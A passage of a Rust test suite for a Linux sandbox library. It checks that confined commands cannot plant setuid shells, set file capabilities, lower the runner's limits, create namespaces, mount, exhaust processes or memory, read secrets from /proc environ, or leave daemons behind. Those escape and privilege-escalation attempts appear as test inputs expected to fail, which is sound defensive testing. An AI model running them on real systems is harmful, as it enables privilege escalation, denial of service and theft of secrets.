            let outside = StdCommand::new(&copy).arg("-u").output().unwrap();
            if String::from_utf8_lossy(&outside.stdout).trim() == "65534" {
                Some(copy)
            } else {
                eprintln!(
                    "SKIPPED part of {TEST}: a setuid binary gives nothing even outside the sandbox here \
                     (nosuid mount?): id -u said {:?}",
                    String::from_utf8_lossy(&outside.stdout)
                );
                None
            }
        } else {
            eprintln!(
                "SKIPPED part of {TEST}: not root, so no setuid binary owned by another user can be made; \
                 only no_new_privs and the capability sets are checked"
            );
            None
        };
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        let out =
            sandbox.run(dirs.sh("grep -E '^(NoNewPrivs|Cap(Inh|Prm|Eff|Bnd|Amb)):' /proc/self/status")).await;
        let text = assert_ok(&out.unwrap());
        let fields: BTreeMap<&str, &str> =
            text.lines().filter_map(|line| line.split_once(':')).map(|(k, v)| (k, v.trim())).collect();
        assert_eq!(fields.get("NoNewPrivs"), Some(&"1"), "{text}");
        for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
            assert_eq!(fields.get(cap), Some(&"0000000000000000"), "{cap} in\n{text}");
        }
        if let Some(copy) = setuid_copy {
            let plain = assert_ok(&sandbox.run(dirs.sh("id -u")).await.unwrap());
            let via = assert_ok(&sandbox.run(dirs.command(path_str(&copy)).arg("-u")).await.unwrap());
            assert_ne!(via.trim(), "65534", "the setuid bit took effect inside the sandbox");
            assert_eq!(via, plain, "the setuid copy ran with another uid");
        }
    })
    .await
}

// What a command leaves for later: files that would run with privileges
// outside the sandbox (setuid or setgid bits, file capabilities), and
// limits set on processes other than the caller, the runner first. The
// seccomp filter refuses them; every test checks the result from outside.

/// How `openat2` (refused so that callers fall back to `openat`) and the
/// `setxattr` calls (refused as on a filesystem without xattrs) fail.
const ENOSYS: &str = "Function not implemented";
const EOPNOTSUPP: &str = "Operation not supported";

/// The setuid and setgid bits of a mode.
const SET_ID_BITS: u32 = 0o6000;

/// Python names for raw system calls: `NR` maps them to this machine's
/// numbers (those from 424 on are the same on every architecture), and
/// `AT_FDCWD`.
const SYSCALL_NUMBERS: &str = "
    import stat, struct
    AT_FDCWD = -100
    NR = {
        'x86_64': dict(open=2, creat=85, chmod=90, fchmod=91, mknod=133, openat=257, mknodat=259, fchmodat=268),
    }.get(os.uname().machine, dict(mknodat=33, fchmod=52, fchmodat=53, openat=56))
    NR.update(openat2=437, fchmodat2=452, setxattrat=463)
";

/// Python with the [`LIBC`] prelude and [`SYSCALL_NUMBERS`].
fn raw_calls(dirs: &Dirs, code: &str) -> Command {
    dirs.python_libc(&format!("{}\n{}", dedent(SYSCALL_NUMBERS), dedent(code)))
}

/// Files beneath `dir` with the setuid or setgid bit, as seen from outside.
fn set_id_files(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    for entry in fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let meta = fs::symlink_metadata(&path).unwrap();
        if meta.mode() & SET_ID_BITS != 0 {
            found.push(format!("{} {:o}", path.display(), meta.mode()));
        }
        if meta.is_dir() {
            found.extend(set_id_files(&path));
        }
    }
    found
}

/// The names of `path`'s extended attributes, read from outside.
fn xattr_names(path: &Path) -> String {
    let out = StdCommand::new("python3")
        .args(["-c", "import os, sys; print(sorted(os.listxattr(sys.argv[1], follow_symlinks=False)))"])
        .arg(path)
        .output()
        .unwrap();
    assert!(out.status.success(), "listxattr {}: {}", path.display(), String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

#[tokio::test]
async fn planting_a_setuid_copy_of_a_shell_is_refused() {
    bounded("test", async {
        const TEST: &str = "planting_a_setuid_copy_of_a_shell_is_refused";
        let dirs = Dirs::new();
        let shell = ["/bin/bash", "/bin/sh"].into_iter().find(|p| Path::new(p).exists()).expect("a shell");
        // A setuid and setgid shell made outside before launch, for the
        // tools that copy a mode (cp -a, tar -p).
        fs::copy(shell, dirs.outside.join("set-id-shell")).unwrap();
        fs::set_permissions(dirs.outside.join("set-id-shell"), fs::Permissions::from_mode(0o6755)).unwrap();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        let sh = |script: &str| dirs.sh(script).env("SHELL_FILE", shell);
        assert_ok(&sandbox.run(sh("cp \"$SHELL_FILE\" rb")).await.unwrap());
        for script in [
            "chmod 4755 rb && echo ESCAPED: chmod 4755",
            "chmod 2755 rb && echo ESCAPED: chmod 2755",
            "chmod u+s rb && echo ESCAPED: chmod u+s",
            "chmod g+s rb && echo ESCAPED: chmod g+s",
            "install -m 4755 \"$SHELL_FILE\" installed && echo ESCAPED: install -m 4755",
            "cp -a \"$OUT/set-id-shell\" copied && echo ESCAPED: cp -a",
            "tar -C \"$OUT\" -cf - set-id-shell | tar -xpf - && echo ESCAPED: tar -xp",
        ] {
            assert_refused(&sandbox.run(sh(script)).await.unwrap(), &[EPERM]);
        }
        assert_eq!(
            set_id_files(&dirs.workspace),
            Vec::<String>::new(),
            "setuid or setgid files were planted"
        );
        // The copy was allowed; only the bits were refused.
        assert_eq!(fs::metadata(dirs.workspace.join("rb")).unwrap().mode() & 0o7777, 0o755);
    })
    .await
}

#[tokio::test]
async fn creating_a_setuid_file_directly_is_refused() {
    bounded("test", async {
        const TEST: &str = "creating_a_setuid_file_directly_is_refused";
        let dirs = Dirs::new();
        let plain = dirs.workspace.join("plain");
        fs::write(&plain, "#!/bin/sh\n").unwrap();
        fs::set_permissions(&plain, fs::Permissions::from_mode(0o644)).unwrap();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        // Each bit alone, through every call that takes a mode: what libc
        // and Python call, then the raw system calls.
        let mut calls = vec![
            "os.open('created', os.O_CREAT | os.O_WRONLY, 0o4755)",
            "os.open('created', os.O_CREAT | os.O_WRONLY, 0o2755)",
            "os.open('.', os.O_TMPFILE | os.O_WRONLY, 0o4755)",
            "os.mknod('created', stat.S_IFREG | 0o4755)",
            "os.mknod('created', stat.S_IFREG | 0o2755)",
            "os.chmod('plain', 0o4755)",
            "os.chmod('plain', 0o2755)",
            "check(libc.syscall(NR['openat'], AT_FDCWD, b'created', os.O_CREAT | os.O_WRONLY, 0o6755))",
            "check(libc.syscall(NR['mknodat'], AT_FDCWD, b'created', stat.S_IFREG | 0o4755, 0))",
            "check(libc.syscall(NR['fchmod'], os.open('plain', os.O_RDONLY), 0o4755))",
            "check(libc.syscall(NR['fchmod'], os.open('plain', os.O_RDONLY), 0o2755))",
            "check(libc.syscall(NR['fchmodat'], AT_FDCWD, b'plain', 0o4755))",
            "check(libc.syscall(NR['fchmodat2'], AT_FDCWD, b'plain', 0o4755, 0))",
            "check(libc.syscall(NR['fchmodat2'], AT_FDCWD, b'plain', 0o2755, 0))",
        ];
        // The calls only x86_64 has.
        if cfg!(target_arch = "x86_64") {
            calls.extend([
                "check(libc.syscall(NR['open'], b'created', os.O_CREAT | os.O_WRONLY, 0o4755))",
                "check(libc.syscall(NR['creat'], b'created', 0o2755))",
                "check(libc.syscall(NR['mknod'], b'created', stat.S_IFREG | 0o6755, 0))",
                "check(libc.syscall(NR['chmod'], b'plain', 0o4755))",
            ]);
        }
        for call in calls {
            let out = sandbox.run(raw_calls(&dirs, &format!("{call}\nprint('ESCAPED:', {call:?})"))).await;
            assert_refused(&out.unwrap(), &[EPERM]);
        }
        // openat2 takes its mode in a struct, out of seccomp's sight: it is
        // refused whatever it asks, as by a kernel without it.
        let code = "
            class open_how(ctypes.Structure):
                _fields_ = [('flags', ctypes.c_uint64), ('mode', ctypes.c_uint64), ('resolve', ctypes.c_uint64)]
            how = open_how(os.O_CREAT | os.O_WRONLY, 0o4755, 0)
            check(libc.syscall(NR['openat2'], AT_FDCWD, b'created', ctypes.byref(how), ctypes.sizeof(how)))
            print('ESCAPED: openat2')
        ";
        assert_refused(&sandbox.run(raw_calls(&dirs, code)).await.unwrap(), &[ENOSYS]);
        assert!(!dirs.workspace.join("created").exists(), "a refused call created its file");
        assert_eq!(set_id_files(&dirs.workspace), Vec::<String>::new(), "setuid or setgid files were made");
        assert_eq!(fs::metadata(&plain).unwrap().mode() & 0o7777, 0o644);
    })
    .await
}

#[tokio::test]
async fn setting_file_capabilities_is_refused() {
    bounded("test", async {
        const TEST: &str = "setting_file_capabilities_is_refused";
        let dirs = Dirs::new();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        assert_ok(&sandbox.run(dirs.sh("cp /bin/sh tool")).await.unwrap());
        if StdCommand::new("setcap").arg("-h").output().is_ok() {
            // setcap raises CAP_SETFCAP in its own effective set first,
            // which the capabilities layer already makes impossible.
            let out = sandbox.run(dirs.sh("setcap cap_setuid+ep tool && echo ESCAPED: setcap")).await;
            assert_refused(&out.unwrap(), &[EOPNOTSUPP, EPERM]);
        }
        // CAP_SETUID, effective at exec (struct vfs_cap_data, revision 2);
        // an ACL granting uid 65534 rwx; a user xattr. Through setxattr,
        // lsetxattr, fsetxattr and setxattrat.
        let values = "
            CAP = struct.pack('<5I', 0x02000001, 1 << 7, 0, 0, 0)
            ACL = struct.pack('<I' + 'HHI' * 5, 2, 1, 7, 0xffffffff, 2, 7, 65534, 4, 5, 0xffffffff,
                              0x10, 7, 0xffffffff, 0x20, 5, 0xffffffff)
        ";
        let calls = [
            "os.setxattr('tool', 'security.capability', CAP)",
            "os.setxattr('tool', 'system.posix_acl_access', ACL)",
            "os.setxattr('tool', 'user.x', b'1')",
            "os.setxattr('tool', 'security.capability', CAP, follow_symlinks=False)",
            "os.setxattr(os.open('tool', os.O_RDONLY), 'security.capability', CAP)",
            "
            class xattr_args(ctypes.Structure):
                _fields_ = [('value', ctypes.c_uint64), ('size', ctypes.c_uint32), ('flags', ctypes.c_uint32)]
            value = ctypes.create_string_buffer(CAP, len(CAP))
            args = xattr_args(ctypes.addressof(value), len(CAP), 0)
            check(libc.syscall(NR['setxattrat'], AT_FDCWD, b'tool', 0, b'security.capability',
                               ctypes.byref(args), ctypes.sizeof(args)))
            ",
        ];
        for call in calls {
            let code = format!("{}\n{}\nprint('ESCAPED:', {call:?})", dedent(values), dedent(call));
            assert_refused(&sandbox.run(raw_calls(&dirs, &code)).await.unwrap(), &[EOPNOTSUPP]);
        }
        let names = xattr_names(&dirs.workspace.join("tool"));
        for name in ["security.capability", "system.posix_acl_access", "user.x"] {
            assert!(!names.contains(name), "{name} was set: {names}");
        }
    })
    .await
}

#[tokio::test]
async fn lowering_the_runners_limits_with_prlimit_is_refused() {
    bounded("test", async {
        const TEST: &str = "lowering_the_runners_limits_with_prlimit_is_refused";
        let dirs = Dirs::new();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        let limits = format!("/proc/{}/limits", runner_on_host(&sandbox));
        let before = fs::read_to_string(&limits).unwrap();
        let runner = RUNNER_INSIDE.to_string();
        let script = "prlimit --pid \"$TARGET\" --nofile=3:3 && echo ESCAPED: prlimit";
        assert_refused(&sandbox.run(dirs.sh(script).env("TARGET", &runner)).await.unwrap(), &[EPERM]);
        let code = "
            import os, resource
            resource.prlimit(int(os.environ['TARGET']), resource.RLIMIT_CPU, (1, 1))
            print('ESCAPED: resource.prlimit')
        ";
        assert_refused(&sandbox.run(dirs.python(code).env("TARGET", &runner)).await.unwrap(), &[EPERM]);
        assert_eq!(fs::read_to_string(&limits).unwrap(), before, "the runner's limits changed");
        // The runner still opens pipes and starts processes.
        for _ in 0..3 {
            assert_eq!(assert_ok(&sandbox.run(dirs.sh("echo alive")).await.unwrap()), "alive\n");
        }
    })
    .await
}

#[tokio::test]
async fn ordinary_modes_and_own_limits_still_work() {
    bounded("test", async {
        const TEST: &str = "ordinary_modes_and_own_limits_still_work";
        let dirs = Dirs::new();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        let script = "echo x > f && chmod 0755 f && chmod 0600 f && chmod u+x f && cp -p f g \
                      && mkdir d && chmod 1777 d && ulimit -n 100 && ulimit -n \
                      && prlimit --nofile=50:50 sh -c 'ulimit -n'";
        assert_eq!(assert_ok(&sandbox.run(dirs.sh(script)).await.unwrap()), "100\n50\n");
        let code = "
            import os, resource, stat
            os.close(os.open('n', os.O_CREAT | os.O_WRONLY, 0o640))
            os.chmod('n', 0o755)
            os.mknod('m', stat.S_IFREG | 0o600)
            resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
            print(resource.getrlimit(resource.RLIMIT_NOFILE), resource.prlimit(0, resource.RLIMIT_NOFILE))
        ";
        assert_eq!(assert_ok(&sandbox.run(dirs.python(code)).await.unwrap()), "(64, 64) (64, 64)\n");
        for (name, mode) in [("f", 0o700), ("g", 0o700), ("d", 0o1777), ("n", 0o755), ("m", 0o600)] {
            let got = fs::metadata(dirs.workspace.join(name)).unwrap().mode() & 0o7777;
            assert_eq!(got, mode, "{name}: mode {got:o}, not {mode:o}");
        }
    })
    .await
}

#[tokio::test]
async fn creating_a_user_namespace_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("creating_a_user_namespace_is_refused", dirs.policy()).await else {
            return;
        };
        let out = sandbox.run(dirs.sh("unshare -U true && echo ESCAPED: unshare -U")).await.unwrap();
        assert_refused(&out, &[EPERM]);
        let out = sandbox.run(dirs.sh("unshare -r -m true && echo ESCAPED: unshare -r -m")).await.unwrap();
        assert_refused(&out, &[EPERM]);
        let out = sandbox.run(dirs.python_libc("check(libc.unshare(0x10000000)); print('ESCAPED: unshare')"));
        assert_refused(&out.await.unwrap(), &[EPERM]);
        // clone(2) with CLONE_NEWUSER, past unshare(2) and libc's clone3.
        let code = "
            nr = {'x86_64': 56, 'aarch64': 220, 'riscv64': 220}[os.uname().machine]
            pid = libc.syscall(nr, 0x10000000 | 17, 0, 0, 0, 0)
            if pid == 0:
                os._exit(0)
            check(pid)
            os.waitpid(pid, 0)
            print('ESCAPED: clone(CLONE_NEWUSER)')
        ";
        assert_refused(&sandbox.run(dirs.python_libc(code)).await.unwrap(), &[EPERM]);
    })
    .await
}

#[tokio::test]
async fn mounting_is_refused() {
    bounded("test", async {
        let dirs = Dirs::new();
        let target = dirs.workspace.join("mnt");
        fs::create_dir(&target).unwrap();
        let Some(sandbox) = confined("mounting_is_refused", dirs.policy()).await else { return };
        let runner = sandbox.info().pid;
        let out = sandbox.run(dirs.sh("mount -t tmpfs none mnt && echo ESCAPED: mounted")).await.unwrap();
        assert_refused(&out, &[EPERM, EACCES]);
        let code = "check(libc.mount(b'none', b'mnt', b'tmpfs', 0, None)); print('ESCAPED: mounted')";
        assert_refused(&sandbox.run(dirs.python_libc(code)).await.unwrap(), &[EPERM]);
        // A bind mount of something outside over the workspace neither.
        let code =
            "check(libc.mount(os.environ['OUT'].encode(), b'mnt', None, 4096, None)); print('ESCAPED')";
        assert_refused(&sandbox.run(dirs.python_libc(code)).await.unwrap(), &[EPERM]);
        assert!(!is_mount_point(&mountinfo(runner), &target), "mounted in the sandbox");
        assert!(!is_mount_point(&mountinfo(std::process::id()), &target), "mounted outside");
    })
    .await
}

// ---------------------------------------------------------------------------
// Resource limits
// ---------------------------------------------------------------------------

#[tokio::test]
async fn a_fork_bomb_is_stopped_by_the_process_limit() {
    const TEST: &str = "a_fork_bomb_is_stopped_by_the_process_limit";
    const LIMIT: usize = 64;
    bounded("test", async {
        let _one_at_a_time = BOMBS.lock().await;
        let root = nix::unistd::geteuid().is_root();
        // As root only a pids cgroup bounds the bomb (RLIMIT_NPROC does not
        // apply to root). Never run it unbounded.
        if root {
            let cgroups: Vec<_> = cordon_sandbox::probe()
                .into_iter()
                .filter(|p| p.name == "cgroup v1 pids" || p.name == "cgroup v2")
                .collect();
            if !cgroups.iter().any(|p| p.available) {
                eprintln!("SKIPPED {TEST}: running as root without a writable pids cgroup: {cgroups:?}");
                return;
            }
        }
        let dirs = Dirs::new();
        let limits = Limits { processes: Some(LIMIT as u64), ..Limits::default() };
        let Some(sandbox) = confined(TEST, dirs.workspace_write().limits(limits).build().unwrap()).await
        else {
            return;
        };
        let detail = layer_detail(&sandbox, "limits").unwrap_or_default().to_string();
        let enforced =
            if root { detail.contains("cgroup /") } else { detail.contains("processes (per user)") };
        if !enforced {
            eprintln!("SKIPPED {TEST}: the limits layer does not enforce the process limit: {detail:?}");
            return;
        }
        let runner = sandbox.info().pid;
        // Count the sandbox's processes from outside while the bomb runs.
        let stop = Arc::new(AtomicBool::new(false));
        let peak = Arc::new(AtomicUsize::new(0));
        let sampler = {
            let (stop, peak) = (stop.clone(), peak.clone());
            std::thread::spawn(move || {
                let mut seen = std::collections::HashSet::new();
                while !stop.load(Ordering::Relaxed) {
                    // The commands: all but the runner (the supervisor's
                    // child), which the limit does not count.
                    let now = descendants(runner);
                    peak.fetch_max(now.len().saturating_sub(1), Ordering::Relaxed);
                    seen.extend(now);
                    std::thread::sleep(Duration::from_millis(5));
                }
                seen
            })
        };
        let script = "i=0; while [ $i -lt 200 ]; do sleep 30 </dev/null >/dev/null 2>&1 & i=$((i+1)); done; \
                      echo spawned $i";
        let out = sandbox.run(dirs.sh(script)).await.unwrap();
        // Let the sampler see the survivors too.
        tokio::time::sleep(Duration::from_millis(200)).await;
        // The layer names the cgroup it made: `…, cgroup PATH[, …]`.
        let cgroup =
            detail.split(", ").find_map(|part| part.strip_prefix("cgroup ")).unwrap_or("/nonexistent");
        let events = fs::read_to_string(format!("{cgroup}/pids.events")).ok();
        let max = fs::read_to_string(format!("{cgroup}/pids.max")).ok();
        // Shutdown kills the bomb; whatever it missed is killed here, before
        // any assertion can fail.
        sandbox.shutdown().await.unwrap();
        stop.store(true, Ordering::Relaxed);
        let seen = tokio::task::spawn_blocking(move || sampler.join().unwrap()).await.unwrap();
        let reaps: Vec<Reap> = seen.into_iter().map(Reap::new).collect();
        let leftover: Vec<u32> = tokio::task::spawn_blocking(move || {
            reaps
                .into_iter()
                .filter(|reap| reap.started.is_some() && !wait_gone(reap.pid))
                .map(|r| r.pid)
                .collect()
        })
        .await
        .unwrap();

        let text = assert_refused(&out, &["Cannot fork", "Resource temporarily unavailable"]);
        assert!(!text.contains("spawned 200"), "all 200 processes started:\n{text}");
        let peak = peak.load(Ordering::Relaxed);
        assert!(peak <= LIMIT, "the commands had {peak} processes at once (limit {LIMIT})");
        if root {
            // The limit is the commands' own: all of it is theirs to use
            // (sampled from outside, so one may be missed mid-fork; the
            // default-limit bomb counts exactly).
            assert!(peak + 1 >= LIMIT, "the commands reached {peak} processes of {LIMIT}:\n{text}");
        } else {
            assert!(peak >= LIMIT / 2, "the bomb never got going ({peak} processes):\n{text}");
        }
        if let Some(max) = max {
            // Plus the runner and its supervisor.
            assert_eq!(max.trim(), (LIMIT + 2).to_string());
        }
        if let Some(events) = events {
            let hits: u64 = events.trim().strip_prefix("max ").and_then(|n| n.parse().ok()).unwrap_or(0);
            assert!(hits > 0, "the pids cgroup never refused a fork: {events:?}");
        }
        // Shutdown killed the bomb, and the machine still forks.
        assert!(leftover.is_empty(), "bomb processes outlived the sandbox (killed now): {leftover:?}");
        assert!(StdCommand::new("true").status().unwrap().success());
    })
    .await
}

#[tokio::test]
async fn a_memory_bomb_is_stopped_by_the_memory_limit() {
    const TEST: &str = "a_memory_bomb_is_stopped_by_the_memory_limit";
    const LIMIT: u64 = 256 << 20;
    bounded("test", async {
        let _one_at_a_time = BOMBS.lock().await;
        let dirs = Dirs::new();
        let limits = Limits { memory: Some(LIMIT), ..Limits::default() };
        let Some(sandbox) = confined(TEST, dirs.workspace_write().limits(limits).build().unwrap()).await
        else {
            return;
        };
        let detail = layer_detail(&sandbox, "limits").unwrap_or_default().to_string();
        if !detail.contains(&format!("address space={LIMIT}")) && !detail.contains("cgroup /") {
            eprintln!("SKIPPED {TEST}: the limits layer does not enforce the memory limit: {detail:?}");
            return;
        }
        // One huge allocation, then one that grows and touches its pages.
        for code in [
            "a = bytearray(1 << 30); print('ESCAPED: 1 GiB allocated')",
            "
            chunks = []
            while len(chunks) < 128:
                chunks.append(b'x' * (8 << 20))
            print('ESCAPED: 1 GiB touched')
            ",
        ] {
            let out = sandbox.run(dirs.python(code)).await.unwrap();
            let text = text(&out);
            assert!(!out.status.timed_out, "timed out:\n{text}");
            assert!(
                !out.status.success() && !text.contains(ESCAPED),
                "{code}: the allocation succeeded:\n{text}"
            );
            assert!(
                text.contains("MemoryError") || out.status.signal == Some(9),
                "{code}: neither MemoryError nor killed ({:?}):\n{text}",
                out.status
            );
        }
        for file in ["memory.limit_in_bytes", "memory.max"] {
            if let Some(dir) = layer_cgroup(&detail, file) {
                assert_eq!(cgroup_number(&dir, file), LIMIT, "{}/{file}", dir.display());
            }
        }
        // The sandbox and the machine carry on.
        assert_eq!(assert_ok(&sandbox.run(dirs.sh("echo alive")).await.unwrap()), "alive\n");
        assert!(StdCommand::new("true").status().unwrap().success());
    })
    .await
}

// ---------------------------------------------------------------------------
// What the child inherits
// ---------------------------------------------------------------------------

#[tokio::test]
async fn only_fds_0_1_2_reach_the_child() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("only_fds_0_1_2_reach_the_child", dirs.policy()).await else { return };
        for tty in [None, Some(Size::default())] {
            // ls's own directory fd is 3.
            let mut command = dirs.command("ls").arg("/proc/self/fd");
            if let Some(size) = tty {
                command = command.tty(size);
            }
            let out = sandbox.run(command).await.unwrap();
            let text = assert_ok(&out);
            let fds: Vec<&str> = text.split_whitespace().collect();
            assert_eq!(fds, ["0", "1", "2", "3"], "tty={tty:?}");
        }
    })
    .await
}

/// The secret, set only in the environment of a re-run of this test binary.
const SECRET_NAME: &str = "CORDON_ESCAPES_TEST_SECRET_TOKEN";
const SECRET_VALUE: &str = "s3cret-7d1f0c9a";
/// Names the test a re-run is for.
const RERUN: &str = "CORDON_ESCAPES_RERUN";

/// Whether this is the re-run of `test` with [`SECRET_NAME`] in its
/// environment. If not, re-runs it and checks it passed.
///
/// Setting the variable in this process (`std::env::set_var`) would race
/// with the other tests of this binary, which read the environment to build
/// every command's (and whose libc may read it without Rust's lock). A fresh
/// copy of the binary running only `test`, with the variable in its
/// environment from the start, has no one to race with.
async fn rerun_with_secret(test: &str) -> bool {
    if std::env::var(RERUN).as_deref() == Ok(test) {
        assert_eq!(std::env::var(SECRET_NAME).as_deref(), Ok(SECRET_VALUE), "the re-run has the secret");
        return true;
    }
    let out = tokio::process::Command::new(std::env::current_exe().unwrap())
        .args(["--exact", test, "--nocapture", "--test-threads=1", "--include-ignored"])
        .env(SECRET_NAME, SECRET_VALUE)
        .env(RERUN, test)
        .kill_on_drop(true)
        .output()
        .await
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "the re-run failed ({}):\n{stdout}\n{stderr}", out.status);
    assert!(stdout.contains("1 passed"), "the re-run did not run {test}:\n{stdout}\n{stderr}");
    eprint!("{stderr}");
    false
}

#[tokio::test]
async fn secret_environment_variables_are_not_passed_to_commands() {
    const TEST: &str = "secret_environment_variables_are_not_passed_to_commands";
    bounded("test", async {
        if !rerun_with_secret(TEST).await {
            return;
        }
        let dirs = Dirs::new();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        let out = sandbox.run(dirs.sh("env").env("X_API_KEY", "given")).await.unwrap();
        let text = assert_ok(&out);
        assert!(
            !text.contains(SECRET_NAME) && !text.contains(SECRET_VALUE),
            "the secret reached the child:\n{text}"
        );
        assert!(
            text.lines().any(|line| line == "X_API_KEY=given"),
            "an explicit variable is passed:\n{text}"
        );
    })
    .await
}

#[tokio::test]
async fn secret_environment_variables_cannot_be_read_from_other_processes() {
    const TEST: &str = "secret_environment_variables_cannot_be_read_from_other_processes";
    bounded("test", async {
        if !rerun_with_secret(TEST).await {
            return;
        }
        let dirs = Dirs::new();
        let Some(sandbox) = confined(TEST, dirs.policy()).await else { return };
        for (whose, pid) in [("the runner's", RUNNER_INSIDE), ("the parent's", std::process::id())] {
            let script = format!("tr '\\0' '\\n' < /proc/{pid}/environ");
            let out = sandbox.run(dirs.sh(&script)).await.unwrap();
            let text = text(&out);
            let leaked: Vec<&str> = text.lines().filter(|line| line.contains(SECRET_VALUE)).collect();
            assert!(
                leaked.is_empty(),
                "the secret is readable in {whose} environ (/proc/{pid}/environ): {leaked:?}"
            );
        }
    })
    .await
}

#[tokio::test]
async fn the_handshake_token_is_invisible_to_confined_children() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) =
            confined("the_handshake_token_is_invisible_to_confined_children", dirs.policy()).await
        else {
            return;
        };
        let out = sandbox.run(dirs.sh("env")).await.unwrap();
        let text = assert_ok(&out);
        assert!(!text.contains(TOKEN_ENV), "the token reached the child's environment:\n{text}");
        // The runner's own environment held it (overwritten in place); the
        // runner is not dumpable, so its environ cannot be read at all.
        let script = format!("tr '\\0' '\\n' < /proc/{RUNNER_INSIDE}/environ");
        let out = sandbox.run(dirs.sh(&script)).await.unwrap();
        assert_refused(&out, &[EACCES]);
    })
    .await
}

// ---------------------------------------------------------------------------
// Outliving the sandbox
// ---------------------------------------------------------------------------

/// Starts a daemon (double fork, `setsid`) inside, under a launching shell
/// that keeps a plain child (`sleep`) too; returns the launching process,
/// the daemon's pid, and every process the sandbox then has (the runner's
/// descendants), each guarded so the test never leaves one behind.
async fn start_daemon(sandbox: &Sandbox, dirs: &Dirs) -> (cordon::Process, u32, Vec<Reap>) {
    let script = "(setsid sh -c 'sleep 300 & echo $! > daemon.pid; exit 0' &); echo started; sleep 300";
    let mut process = sandbox.spawn(dirs.sh(script).timeout(Duration::from_secs(120))).await.unwrap();
    read_until(&mut process, "started").await;
    let pid_file = dirs.workspace.join("daemon.pid");
    let daemon_inside = tokio::task::spawn_blocking(move || read_pid_file(&pid_file)).await.unwrap();
    let pids = descendants(sandbox.info().pid);
    let tree: Vec<Reap> = pids.iter().copied().map(Reap::new).collect();
    let daemon = host_pid_of(daemon_inside, &pids).unwrap_or_else(|| {
        panic!("the daemon (pid {daemon_inside} inside) descends from the runner: {pids:?}")
    });
    assert!(!is_gone(daemon), "the daemon runs");
    (process, daemon, tree)
}

/// The guarded processes still running after up to 10 s, as
/// `pid (command line) now a child of ppid`; they are killed when the
/// guards drop.
async fn survivors(tree: &[Reap]) -> Vec<String> {
    let pids: Vec<(u32, Option<u64>)> = tree.iter().map(|reap| (reap.pid, reap.started)).collect();
    let alive = move || -> Vec<u32> {
        pids.iter()
            .filter(|&&(pid, started)| started.is_some() && !is_gone(pid) && start_time(pid) == started)
            .map(|&(pid, _)| pid)
            .collect()
    };
    tokio::task::spawn_blocking(move || {
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        let mut left = alive();
        while !left.is_empty() && std::time::Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(20));
            left = alive();
        }
        left.into_iter()
            .map(|pid| {
                let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
                let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
                let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
                let ppid = stat.get(stat.rfind(')').unwrap_or(0) + 1..).unwrap_or("");
                let ppid = ppid.split_whitespace().nth(1).unwrap_or("?").to_string();
                format!("{pid} ({}) now a child of {ppid}", cmdline.trim())
            })
            .collect()
    })
    .await
    .unwrap()
}

/// Starts a daemon, sends `signal` to the process `victim` picks, and checks
/// that nothing of the sandbox is left.
async fn daemon_dies_with(test: &str, victim: fn(&Sandbox) -> u32, signal: Signal) {
    let dirs = Dirs::new();
    let Some(sandbox) = confined(test, dirs.policy()).await else { return };
    let (mut process, daemon, tree) = start_daemon(&sandbox, &dirs).await;
    let target = victim(&sandbox);
    kill(Pid::from_raw(target as i32), signal).unwrap();
    sandbox.closed().await;
    assert!(process.wait().await.is_err(), "the runner is gone");
    let survivors = survivors(&tree).await;
    assert!(
        survivors.is_empty(),
        "processes outlived {signal} to {target} (daemon {daemon}; killed now): {survivors:#?}"
    );
}

#[tokio::test]
async fn a_daemon_does_not_survive_the_runner_being_killed() {
    const TEST: &str = "a_daemon_does_not_survive_the_runner_being_killed";
    bounded("test", daemon_dies_with(TEST, runner_on_host, Signal::SIGKILL)).await
}

#[tokio::test]
async fn a_daemon_does_not_survive_the_launched_process_being_killed() {
    const TEST: &str = "a_daemon_does_not_survive_the_launched_process_being_killed";
    bounded("test", daemon_dies_with(TEST, |sandbox| sandbox.info().pid, Signal::SIGKILL)).await
}

#[tokio::test]
async fn a_daemon_does_not_survive_the_launched_process_being_terminated() {
    const TEST: &str = "a_daemon_does_not_survive_the_launched_process_being_terminated";
    bounded("test", daemon_dies_with(TEST, |sandbox| sandbox.info().pid, Signal::SIGTERM)).await
}

#[tokio::test]
async fn reported_pids_are_the_hosts() {
    bounded("test", async {
        let dirs = Dirs::new();
        let Some(sandbox) = confined("reported_pids_are_the_hosts", dirs.policy()).await else { return };
        let mut process = sandbox.spawn(dirs.sh("echo $$; exec sleep 30")).await.unwrap();
        let inside: u32 = read_until(&mut process, "\n").await.trim().parse().unwrap();
        let reported = process.pid();
        assert_ne!(reported, inside, "the pid inside the namespace was reported");
        assert_eq!(host_pid_of(inside, &[reported]), Some(reported), "pid {reported} is not the command");
        // The shell execs `sleep` right after the echo.
        let cmdline = || fs::read(format!("/proc/{reported}/cmdline")).unwrap();
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while cmdline() != b"sleep\x0030\x00" && std::time::Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        assert_eq!(String::from_utf8_lossy(&cmdline()), "sleep\x0030\x00");
        let listed: Vec<u32> = sandbox.list().await.unwrap().iter().map(|p| p.pid).collect();
        assert_eq!(listed, vec![reported]);
    })
    .await
}

#[tokio::test]
async fn dropping_the_sandbox_kills_a_daemon() {
